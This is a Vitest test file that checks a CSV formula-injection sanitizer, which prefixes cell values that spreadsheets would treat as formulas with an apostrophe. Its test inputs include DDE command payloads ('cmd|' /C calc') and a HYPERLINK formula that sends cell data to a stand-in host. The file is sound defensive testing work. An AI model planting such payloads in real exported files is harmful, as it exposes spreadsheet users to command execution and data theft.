import fc from 'fast-check';
import { expect, test } from 'vitest';
import { defuseFormula } from '../../src/write/cells.js';

// Rules of Excel and LibreOffice for CSV cells: a value that starts with = + - or @ is a formula. White space
// and zero-width characters before the sign are skipped. Full-width signs count as plain ones with East Asian
// input. CSV quotes do not help, because they are removed first. A leading apostrophe makes the value text.
test.each([
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tplain',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u2060\u200d=1+1',
  '\u202e=1+1',
  '\u00ad=1+1',
  '\u0000=1+1',
  '\u001b=1+1',
  '\u3164=1+1',
  '\ufe0f=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1',
  '- one\n- two',
  '@handle',
  '-A1',
  '+A1',
  '-(1)',
  '+1-2',
  '-1-2',
  '+49 30 1234=1',
  '+49 30 12345 cmd',
  '-49 30 12345-6',
  '=',
  '+12345;=1',
  '-1e',
  '-5 USD|x',
])('%j gets an apostrophe', (text) => {
  expect(defuseFormula(text)).toBe(`'${text}`);
});

test.each([
  '',
  'Ada',
  "'=1+1",
  'a=b',
  'x+y',
  'e-mail',
  'ada@example.com',
  '1+1',
  '(=1)',
  '["=1"]',
  'https://x.example/?a=-1',
  '-5',
  '+5',
  '-0.5',
  '-,5',
  '-1,234.56',
  '-1.234,56',
  "-1'234.5",
  '-1 234',
  '-1\u202f234',
  '+3.2e-5',
  '-12%',
  '-$5',
  '-5 €',
  '+49 30 1234567',
  '+1 (555) 123-4567',
  '+1-555-123-4567 ext. 12',
  '+33.1.23.45.67.89',
  '+442071234567',
  '-',
  '--',
])('%j is unchanged', (text) => {
  expect(defuseFormula(text)).toBe(text);
});

test('any text becomes a non-formula or a number, and no text is lost', () => {
  const unit = fc.constantFrom('=', '+', '-', '@', '\t', ' ', '\u200b', '＝', '1', '.', 'A', '(', '|');
  fc.assert(
    fc.property(fc.string({ unit }), (text) => {
      const safe = defuseFormula(text);
      expect([text, `'${text}`]).toContain(safe);
      const bare = safe.replace(/[\s\u200b]/g, '');
      if (/^[=@＝]/.test(bare)) throw new Error('a formula went through');
      if (/^[+-]/.test(bare)) expect(bare).toMatch(/^[+-][\d.()-]*$|^[+-]+$/);
    }),
    { numRuns: 5_000 },
  );
});

test('long text is checked quickly', () => {
  expect(defuseFormula(`=${'1 '.repeat(500_000)}`).startsWith("'=")).toBe(true);
  expect(defuseFormula(`-${'1 '.repeat(500_000)}x`).startsWith("'-")).toBe(true);
  expect(defuseFormula(`${' \u200b'.repeat(500_000)}=1`).startsWith("' ")).toBe(true);
});
